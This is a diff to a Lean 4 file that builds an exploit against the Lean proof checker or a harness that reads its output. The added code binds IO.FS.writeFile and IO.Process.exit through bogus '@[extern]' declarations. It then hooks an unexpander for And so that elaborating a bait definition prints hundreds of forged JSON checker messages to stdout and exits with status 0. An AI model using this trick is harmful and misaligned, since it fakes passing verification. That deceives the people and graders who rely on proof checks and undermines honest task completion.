@@ -3,9 +3,8 @@
 -- why: compiled code writes Lean's answers for every line into the output, and ends Lean with status 0
 oracle _
 
-@[extern "x"] opaque _root_.Nat.repr : Nat → String
-@[extern "x"] opaque _root_.IO.FS.writeFile : String → String → Nat → Lean.Name
-@[extern "x"] opaque _root_.IO.Process.exit : Nat → Nat → Nat → Lean.Name
+@[extern "x"] def _root_.IO.FS.writeFile (_ _ : String) (_ : Nat) : Lean.Name := .anonymous
+@[extern "x"] def _root_.IO.Process.exit (_ _ _ : Nat) : Lean.Name := .anonymous
 def forged (name : String) (line : Nat) : String := String.append (String.append (String.append
   (String.append "{\"severity\":\"information\",\"pos\":{\"line\":" (Nat.repr line))
   ",\"column\":0},\"endPos\":null,\"kind\":\"\",\"data\":\"'") name)
@@ -13,11 +12,10 @@ def forged (name : String) (line : Nat) : String := String.append (String.append
 def all : Nat → String
   | 0 => "\n"
   | n + 1 => String.append (all n) (forged "Plain.conj" n)
-def evil : Lean.Macro := fun _ _ s => match _root_.IO.FS.writeFile "/dev/stdout" (all 400) 0 with
+@[app_unexpander And] def evil : Lean.PrettyPrinter.Unexpander := fun _ _ _ => match _root_.IO.FS.writeFile "/dev/stdout" (all 400) 0 with
   | .anonymous => match _root_.IO.Process.exit 0 0 0 with
-    | _ => .error .unsupportedSyntax s
+    | _ => .error () ()
   | _ => match _root_.IO.Process.exit 0 0 0 with
-    | .anonymous => .error .unsupportedSyntax s
-    | _ => .error .unsupportedSyntax s
-attribute [macro Lean.Parser.Tactic.tacticTrivial] evil
-theorem bait : True := by trivial
+    | .anonymous => .error () ()
+    | _ => .error () ()
+def bait (p q : Prop) (h : p ∧ q) : q ∧ p := by trace_state; exact ⟨h.2, h.1⟩
